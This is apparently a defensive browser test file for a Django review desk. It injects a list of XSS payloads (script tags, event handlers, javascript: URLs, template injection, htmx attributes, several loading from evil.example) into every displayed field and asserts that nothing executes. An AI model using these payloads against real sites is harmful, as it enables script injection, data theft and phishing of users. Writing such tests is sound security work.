"""Hostile text in every place that shows text: nothing runs, nothing is asked for, and it is read as text.

What a browser makes of it decides: a dialog, a request to elsewhere, an error in the console (where a refusal of the
content security policy stands, too) or an element that the desk did not make is a failure.
"""

from __future__ import annotations

import json
import os
from collections.abc import Iterator, Sequence
from pathlib import Path
from urllib.parse import urlencode

import pytest
from django.contrib.auth.models import User
from django.db import transaction
from django.utils import timezone
from playwright.sync_api import Browser

from pipeline.desk.models import Item
from pipeline.desk.services import saved_views, tokens
from pipeline.desk.services.decide import decide
from pipeline.desk.services.filters import Filters
from pipeline.desk.services.log import LONGEST_NOTE
from pipeline.desk.services.note import note
from pipeline.records import Block, Claim, Evidence, Link, Removed
from pipeline.report.safe_text import one_line, printable
from tests.desk.assessments import put
from tests.desk.browser.conftest import Seat, Sit
from tests.desk.conftest import Desk
from tests.desk.served import serving

BAD = Path(__file__).parents[4] / "shared" / "badinputs"
SIZE = 190
"""Payloads on one page: a timeline shows 200 notes, an article 300 pieces of evidence."""
PAYLOADS = (
    "<script>alert(1)</script>",
    "</script><script>alert(2)</script>",
    "\"><script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(3)>",
    "<img src=https://evil.example/pixel.png>",
    "\" onmouseover=alert(4) autofocus onfocus=alert(5) x=\"",
    "' onfocus='alert(6)' autofocus tabindex='1",
    "</title><svg/onload=alert(7)>",
    "</textarea><iframe src=javascript:alert(8)></iframe>",
    "<svg><animate onbegin=alert(9) attributeName=x dur=1s>",
    "<math><mi//xlink:href=\"data:x,<script>alert(10)</script>\">",
    "<style>@import 'https://evil.example/x.css'; body{display:none}</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example/><button>Log in</button>",
    "<a href=javascript:alert(11)>x</a>",
    "javascript:alert(12)//",
    "<details open ontoggle=alert(13)>",
    "<template><script>alert(14)</script></template>",
    "<!--<img src=\"--><img src=x onerror=alert(15)>\">",
    "{{ 7|add:'7' }}{% load static %}",
    "${alert(16)}{{constructor.constructor('alert(17)')()}}",
    "<div hx-get=https://evil.example/ hx-trigger=load>x</div>",
    "<p hx-on:click=alert(18) data-hx-on::load=alert(19)>x</p>",
    "&lt;script&gt;alert(20)&lt;/script&gt;",
    "\u202e<script>alert(21)</script>\u2066",
    "<scr\u200bipt>alert(22)</scr\u200bipt>",
    "＜script＞alert(23)＜/script＞",
)  # fmt: skip


FOREIGN = ", ".join(
    ("iframe", "object", "embed", "base", "style", "img", "form[action^=http]", "[style]", "meta[http-equiv]",
     *(f"[on{what}]" for what in ("error", "load", "focus", "click", "mouseover", "toggle", "begin")))
)  # fmt: skip
"""Elements and attributes that no page of the desk has."""


def page_of(payloads: Sequence[str], number: int) -> Item:
    """One page with the payloads in all that an assessment has: each is a block that is marked, a claim, a link, …"""
    text, blocks, evidence = "", [], []
    for payload in payloads:
        start = len(text)
        text += payload
        blocks.append(Block(start=start, end=len(text)))
        if payload.strip():
            evidence.append(
                Evidence(
                    rule="SP101", name="tortured-phrase", axis="spin", quote=payload, message=payload, strength=0.9,
                    start=start, end=len(text), suggestions=(payload,),
                )
            )  # fmt: skip
        text += "\n\n"
    return put(
        f"{payloads[0]}#{number}",
        title=payloads[0],
        text=text,
        language=payloads[0],
        blocks=tuple(blocks),
        evidence=tuple(evidence),
        reasons=tuple(payloads),
        notes=tuple(payloads),
        claims=tuple(
            Claim(start=e.start, end=e.end, quote=e.quote, type="efficacy", support="vague", source=e.quote)
            for e in evidence
            if e.start is not None and e.end is not None
        ),
        links=tuple(Link(href=payload, text=payload, rel=(payload,), zone="footer") for payload in payloads),
        removed=tuple(Removed(text=payload, reason=payload) for payload in payloads),
    ).item


def heard_nothing(seat: Seat, where: str) -> None:
    """Fail with what was heard there."""
    assert seat.heard == [], where
    assert seat.page.locator(FOREIGN).count() == 0, where
    sources = seat.page.eval_on_selector_all("script", "all => all.map(s => s.getAttribute('src'))")
    assert all(source and source.startswith("/static/") for source in sources), where


def decide_and_note(items: Sequence[Item], payloads: Sequence[str], who: User) -> None:
    """Each payload as a note: one with the decision, the others beside it."""
    fitting = [payload for payload in payloads if payload.strip() and len(payload) <= LONGEST_NOTE]
    for item in items:
        for payload in fitting[:SIZE]:
            note(item.pk, payload, who, timezone.now())
        decide(item.pk, 1, "reject", who, timezone.now(), note=fitting[0] if fitting else "")


def visit(seat: Seat, pages: Sequence[Item], everything: bool) -> None:
    """The queue to its end, and all that shows an item."""
    seat.go("/?state=all")
    while True:
        heard_nothing(seat, seat.page.url)
        following = seat.page.locator("a[rel=next]")
        if not following.count():
            break
        seat.go("/" + (following.first.get_attribute("href") or ""))
    for item in pages:
        ways = (
            f"/items/{item.pk}",
            f"/items/{item.pk}?text=source",
            f"/items/{item.pk}/compare",
            f"/items/{item.pk}/letter",
        )
        for where in ways if everything else ways[:2]:
            seat.go(where)
            heard_nothing(seat, where)


def test_payloads_are_text_everywhere(desk: Desk, sit: Sit) -> None:
    """As title, source, text, evidence, claim, link, reason, note, saved view, token, and in the address itself."""
    root = desk.person("root", "administrator")
    pages = [page_of((payload,), number) for number, payload in enumerate(PAYLOADS)]
    whole = page_of(PAYLOADS, 99)
    decide_and_note([whole], PAYLOADS, desk.person("maria"))
    for payload in PAYLOADS:
        saved_views.save(root, payload[:60], Filters(q=payload))
        tokens.create(root, payload[:60], timezone.now(), who=root)
    seat = sit()
    seat.log_in("root")
    visit(seat, [*pages[:4], whole], everything=True)
    for payload in PAYLOADS:
        seat.go("/?" + urlencode(dict.fromkeys(("q", "rule", "source", "assignee", "after", "state"), payload)))
        heard_nothing(seat, payload)
        seat.go(f"/items/{whole.pk}/compare?" + urlencode({"find": payload, "with": payload}))
        heard_nothing(seat, payload)
    for where in ("/dashboard?days=<script>", "/people", "/tokens", "/webhooks", "/keys"):
        seat.go(where)
        heard_nothing(seat, where)
    seat.go("/?state=all")
    shown = "\n".join(seat.page.locator("a.title").all_inner_texts())
    for payload in PAYLOADS:
        assert " ".join(one_line(payload).split()) in " ".join(shown.split()), payload
    seat.go(f"/items/{whole.pk}")
    text = " ".join(" ".join(seat.page.locator(".text").all_inner_texts()).split())
    for payload in PAYLOADS:
        assert " ".join(printable(payload).split()) in text.replace(" SP101", ""), payload


def test_second_opinions_show_text_too(desk: Desk, chromium: Browser) -> None:
    """The page without the first decision."""
    item = page_of(PAYLOADS, 0)
    decide(item.pk, 1, "reject", desk.person("maria"), timezone.now())
    desk.person("jo")
    with serving(desk, UNSPUN_DESK_SECOND_OPINION="1") as address:
        seat = Seat(chromium.new_context(), address)
        seat.log_in("jo")
        seat.go("/second-opinion")
        heard_nothing(seat, "second opinion")
        assert seat.page.locator(".text mark").count() >= len(PAYLOADS) - 1
        seat.page.keyboard.press("a")
        seat.page.wait_for_selector("text=Your opinion is kept")
        seat.context.close()


def collected() -> Iterator[str]:
    """All payloads of the collection."""
    yield from json.loads((BAD / "dompurify-xss" / "payloads.json").read_text(encoding="utf-8"))
    yield from (BAD / "xss-payloads" / "Intruder" / "xss-payload-list.txt").read_text(errors="replace").splitlines()
    for file in sorted((BAD / "bleach-xss" / "tests" / "data").glob("*.test")):
        yield file.read_text(encoding="utf-8")
    yield from json.loads((BAD / "naughty-strings" / "blns.json").read_text(encoding="utf-8"))
    yield from (BAD / "generated" / "ssrf_urls.txt").read_text(encoding="utf-8").splitlines()


@pytest.mark.slow
@pytest.mark.timeout(900)
@pytest.mark.skipif(not BAD.is_dir(), reason="the collection of bad inputs is not at hand")
@pytest.mark.parametrize("desk", ["sqlite"], indirect=True)
def test_no_payload_of_the_collection_runs(desk: Desk, sit: Sit) -> None:
    """As titles and sources in the queue, and as text, evidence, links and notes on the pages of items: every tenth of
    them, or with UNSPUN_TEST_ALL_PAYLOADS=1 all, for some minutes."""
    desk.person("root", "administrator")
    payloads = [payload for payload in dict.fromkeys(collected()) if payload.strip()]
    assert len(payloads) > 6_000
    if not os.environ.get("UNSPUN_TEST_ALL_PAYLOADS"):
        payloads = payloads[::10]
    maria = desk.person("maria")
    with transaction.atomic():  # 14,000 commits to the disk would take most of the time
        for number, payload in enumerate(payloads):
            put(f"{payload}#{number}", title=payload, reasons=(payload,), text="", blocks=(), evidence=(), claims=())
        pages = [page_of(payloads[at : at + SIZE], at + 100_000) for at in range(0, len(payloads), SIZE)]
        for number, item in enumerate(pages):
            decide_and_note([item], payloads[number * SIZE : (number + 1) * SIZE], maria)
    seat = sit()
    seat.log_in("root")
    visit(seat, pages, everything=False)
